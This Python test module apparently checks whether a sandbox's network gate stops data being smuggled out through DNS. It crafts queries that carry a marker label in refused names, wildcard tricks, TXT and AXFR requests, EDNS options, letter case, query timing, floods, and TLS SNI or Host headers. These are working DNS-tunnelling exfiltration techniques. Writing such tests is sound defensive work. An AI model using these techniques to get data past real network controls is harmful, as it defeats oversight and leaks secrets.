"""Data carried in DNS. Of a name that the policy refuses nothing leaves; of one that it allows the
name alone, in small letters, asked for addresses by the host's own resolver, a few at a time. A
name server outside tells what came. The control asks without the network namespace (then the
datagram is not the gate's), or is asked of a gate without exactly that check (holes_of_gate.py); in
the short form in a sandbox whose policy allows it, or for the name as it should be."""
import os
import time

from frame import Bait, Outcome, inside, row
from harness import wait_until
from nameserver import (
    ANY,
    AXFR,
    CNAME,
    HTTPS,
    MX,
    NAMESERVER,
    NULL,
    PTR,
    SECRET_ZONE,
    SRV,
    TXT,
    ZONE,
    AAAA,
    message,
    named,
    with_options,
)
from places import Sandbox

N = "network"
KNOWN = ("AgentCore: DNS",)


def put(at, messages, by, wait):
    """Sends each message from a socket of its own; answers, as hex digits."""
    many = []
    for one in messages:
        data = bytes.fromhex(one)
        stream = socket.socket(
            socket.AF_INET, socket.SOCK_DGRAM if by == "udp" else socket.SOCK_STREAM
        )
        stream.settimeout(wait)
        many.append(stream)
        stream.connect((at, 53))
        stream.sendall(data if by == "udp" else len(data).to_bytes(2, "big") + data)
    told = []
    for stream in many:
        try:
            told.append(stream.recv(65536).hex())
        except OSError:
            break
    return told or ["no answer"]


def new_label():
    return "cay" + os.urandom(12).hex()


class Carried(Bait):
    """Data that is to reach the name server. `made(label)` -> the messages."""

    of_host = True
    made = by = None
    wait = 0.5

    def __init__(self, host):
        super().__init__()
        self.server, self.label = host.world.names, new_label()

    def __enter__(self):
        self.arguments = {
            "at": NAMESERVER,
            "by": self.by,
            "wait": self.wait,
            "messages": [one.hex() for one in self.__class__.made(self.label)],
        }
        return self

    def won(self, told):
        try:
            return bool(wait_until(lambda: self.came(told), "it comes", self.patience))
        except AssertionError:
            return False

    def came(self, told):
        return self.server.seen(self.label.encode())


def carried(
    name,
    attack,
    made,
    box="tunnel",
    by="udp",
    wall="only a plain question for addresses is asked on",
    base=Carried,
    **more,
):
    bait = type("Carried", (base,), {"made": staticmethod(made), "by": by})
    inside(
        f"dns-{name}",
        attack,
        N,
        ["net"],
        put,
        bait,
        box=box,
        by="A1",
        wall=wall,
        known=KNOWN,
        **more,
    )


R = "the policy decides before a name is looked up"


def asked(host, box, name, by="udp"):
    label = new_label()
    told = host.box(box).run(
        put,
        {"at": NAMESERVER, "by": by, "wait": 0.5, "messages": [message(name.format(label)).hex()]},
    )
    return Outcome(
        host.comes(lambda: host.world.names.seen(label.encode())),
        str(told.get("refused", told.get("done", [""])[0][:8])),
    )


def by_policy(name, attack, wrong, right=None, box="main", by="udp", holes=(R,), **more):
    """`wrong`: what is asked. Without a build with holes the control asks the same in the sandbox
    `open`, or for `right`."""

    @row(f"dns-{name}", attack, N, "; ".join(holes), by="A1", known=KNOWN, holes=holes, **more)
    def run(host, lifted):
        return asked(
            host, "open" if lifted and not right else box, right if lifted and right else wrong, by
        )


by_policy(
    "refused-labels", "carry data in the labels of a name that is refused", "{}." + SECRET_ZONE
)
by_policy("refused-labels-tcp", "the same over TCP", "{}." + SECRET_ZONE, by="tcp")
by_policy(
    "below-an-exact-name", "carry data in a label below an allowed name", "{}.allowed.gate.test"
)
by_policy(
    "beside-a-wildcard",
    "a name that ends as an allowed wildcard, without its dot",
    "{}x" + ZONE,
    "{}." + ZONE,
    box="tunnel",
    holes=("a wildcard begins with its dot",),
)
by_policy(
    "behind-a-wildcard",
    "an allowed wildcard's names as labels of another",
    "{}." + ZONE + "." + SECRET_ZONE,
    "{}." + ZONE,
    box="tunnel",
    holes=("a wildcard is the end of a name",),
)
carried(
    "refused-to-a-server",
    "carry refused labels to a name server's own address",
    lambda label: [message(f"{label}.{SECRET_ZONE}")],
    box="main",
    wall="DNS ends at the gate; " + R,
)
carried(
    "refused-to-a-server-tcp",
    "the same over TCP",
    lambda label: [message(f"{label}.{SECRET_ZONE}")],
    box="main",
    by="tcp",
    wall="DNS ends at the gate; " + R,
    short=False,
)

T = "nothing but addresses is asked for"
for word, kind in {
    "txt": TXT,
    "null": NULL,
    "any": ANY,
    "mx": MX,
    "srv": SRV,
    "cname": CNAME,
    "ptr": PTR,
    "https": HTTPS,
}.items():
    carried(
        f"type-{word}",
        f"ask {word.upper()} of an allowed wildcard's name",
        lambda label, kind=kind: [message(f"{label}.{ZONE}", kind)],
        wall=T,
        short=word in ("txt", "null", "any"),
    )
carried(
    "type-axfr",
    "ask for an allowed zone whole",
    lambda label: [message(f"{label}.{ZONE}", AXFR)],
    by="tcp",
    wall=T,
    short=False,
)
carried(
    "class-chaos",
    "ask in another class",
    lambda label: [message(f"{label}.{ZONE}", TXT, klass=3)],
    wall=T,
)


class Heard(Carried):
    """Won by the answer: where there should be one it is waited for."""

    def given(self, host, lifted):
        return {**self.arguments, "wait": self.patience if lifted else self.wait}


class Answered(Heard):
    """Data in the answer."""

    def came(self, told):
        return "reached by TXT".encode().hex() in str(told)


carried(
    "answer-txt",
    "fetch data by TXT",
    lambda label: [message(f"{label}.{ZONE}", TXT)],
    base=Answered,
    wall=T,
)

Q = "one plain question is read of a message, and asked anew"
for word, flags in {
    "update": 0x2900,
    "notify": 0x2100,
    "inverse": 0x0900,
    "answer": 0x8180,
}.items():
    carried(
        f"message-{word}",
        f"carry data in a message that is no question: {word}",
        lambda label, flags=flags: [message(f"{label}.{ZONE}", flags=flags)],
        wall=Q,
        short=word == "update",
    )
carried(
    "second-question",
    "carry data in a second question",
    lambda label: [
        message(f"one.{ZONE}", questions=2, more=named(f"{label}.{ZONE}") + b"\0\1\0\1")
    ],
    wall=Q,
)
carried(
    "option-data",
    "carry data in an option (EDNS)",
    lambda label: [message(f"one.{ZONE}", additional=1, more=with_options(1232, label.encode()))],
    wall=Q,
)
carried(
    "trailing-bytes",
    "carry data behind the question",
    lambda label: [message(f"one.{ZONE}", more=label.encode())],
    wall=Q,
)
carried(
    "binary-label",
    "carry data in bytes that are no letters",
    lambda label: [message(bytes([len(label) + 2]) + b"\xff\0" + label.encode() + named(ZONE))],
    wall="names are of letters, digits, '-' and '_'",
)
carried(
    "long-label",
    "a label of 64 bytes",
    lambda label: [message(bytes([64]) + label.ljust(64, "x").encode() + named(ZONE))],
    wall=Q,
)
carried(
    "long-name",
    "a name of 300 bytes",
    lambda label: [message(".".join([label] + ["x" * 60] * 4 + [ZONE]))],
    wall=Q,
)
carried(
    "oversized",
    "a message of 9,000 bytes",
    lambda label: [message(f"{label}.{ZONE}", more=b"x" * 9000)],
    by="tcp",
    wall="messages are bounded",
    short=False,
)


class ByCase(Carried):
    """Data in which letters are large."""

    def came(self, told):
        return any(mixed(self.label).encode() in question for _, question in self.server.asked)


def mixed(label):
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(label))


carried(
    "letter-case",
    "carry data in the case of an allowed name's letters",
    lambda label: [message(f"{mixed(label)}.{ZONE}")],
    base=ByCase,
    wall="names are asked in small letters",
)


class Again(Carried):
    """The same name, to be heard each time."""

    def came(self, told):
        return self.server.seen(self.label.encode()) >= 25


carried(
    "again",
    "tell time by asking the same name 50 times",
    lambda label: [message(f"{label}.{ZONE}")] * 50,
    base=Again,
    wall="an answer is kept for 30 s",
)


class Large(Heard):
    """More data in one answer than an address or some dozens have."""

    def came(self, told):
        return any(len(one) // 2 > 1232 for one in told or [])


carried(
    "large-answer",
    "fetch an answer of 200 addresses, with room for 65,535 bytes",
    lambda label: [message(f"many{label}.{ZONE}", AAAA, additional=1, more=with_options(65535))],
    base=Large,
    wall="answers are bounded",
)


ASKERS, LOOKUPS = 300, 4


@row(
    "dns-many-names",
    "carry data in 300 names of an allowed wildcard at once, from 300 sockets",
    N,
    "a sandbox has four lookups at once",
    by="A1",
    known=KNOWN,
    proof="succeeds without the network namespace",
)
def many_names(host, lifted):
    """In a sandbox of its own: its questions wait for servers that never answer."""
    from places import StandIn

    label, box = new_label(), Sandbox(host, "escape-" + os.urandom(4).hex(), policy=f"*.{ZONE}")
    try:
        messages = [message(f"silent{number}-{label}.{ZONE}").hex() for number in range(ASKERS)]
        place = StandIn(box, ["net"]) if lifted else box
        place.run(put, {"at": NAMESERVER, "by": "udp", "wait": 2, "messages": messages})
        came = [(when, one) for when, one in host.world.names.asked if label.encode() in one]
        assert came, "none was asked at all: the attack would prove nothing"
        # Those that came before the first lookups were given up.
        at_once = {one[12:40] for when, one in came if when < came[0][0] + 1.5}
        return Outcome(len(at_once) > LOOKUPS, f"{len(at_once)} at once")
    finally:
        box.close()


MANY_NEW = 5000


def ask_one_by_one(at, label, zone, count):
    """How many were answered with an address, or at all."""
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.connect((at, 53))
    stream.settimeout(0.2)
    end, found = time.monotonic() + 40, 0
    for number in range(count):
        if time.monotonic() > end:
            break
        name = f"{label}{number}.{zone}"
        wire = (
            b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
            + b"\0\0\x01\0\x01"
        )
        stream.send(struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + wire)
        try:
            found += stream.recv(512)[3] & 15 == 0
        except TimeoutError:
            pass
    return found


@row(
    "dns-ever-new-names",
    f"carry data in {MANY_NEW} names of an allowed wildcard, one after the other",
    N,
    "names that were never asked for are bounded",
    by="A1",
    known=KNOWN,
    proof="succeeds without the network namespace",
    holes=("new names are bounded",),
    short=False,
)
def ever_new_names(host, lifted):
    """Won: more come than 2,000, and 30 for each second that it took."""
    from places import StandIn

    label, box = new_label(), Sandbox(host, "escape-" + os.urandom(4).hex(), policy=f"*.{ZONE}")
    try:
        begun = time.monotonic()
        told = (StandIn(box, ["net"]) if lifted else box).run(
            ask_one_by_one, {"at": NAMESERVER, "label": label, "zone": ZONE, "count": MANY_NEW}
        )
        took = time.monotonic() - begun
        came = len({one[12:60] for _, one in host.world.names.asked if label.encode() in one})
        return Outcome(
            came > 2000 + 30 * (took + 1) + 1,
            f"{came} came in {took:.0f} s, {told.get('done')} answered",
        )
    finally:
        box.close()


# ---- names that are shown without a lookup ----


def hello(host, sni):
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(
        socket.create_connection((host, 443), timeout=10), server_hostname=sni
    ) as stream:
        return stream.version()


def host_line(host, sni):
    with socket.create_connection((host, 80), timeout=10) as stream:
        stream.sendall(f"GET / HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
        return stream.recv(4096).decode("latin-1")[:12]


for word, act, check in (
    ("sni", hello, "the name shown in TLS is judged"),
    ("host", host_line, "the name shown as Host is judged"),
):

    @row(
        f"dns-by-{word}",
        "have a refused name looked up by showing it "
        f"({word.upper() if word == 'sni' else 'Host'})",
        N,
        check,
        by="A1",
        known=KNOWN,
        holes=(check,),
    )
    def shown(host, lifted, act=act):
        """The control shows a name that is allowed: it is looked up."""
        label = new_label()
        told = host.box("tunnel").run(
            act, {"host": "198.18.7.1", "sni": f"{label}.{ZONE if lifted else SECRET_ZONE}"}
        )
        return Outcome(
            host.comes(lambda: host.world.names.seen(label.encode())),
            str(told.get("refused", told.get("done"))),
        )
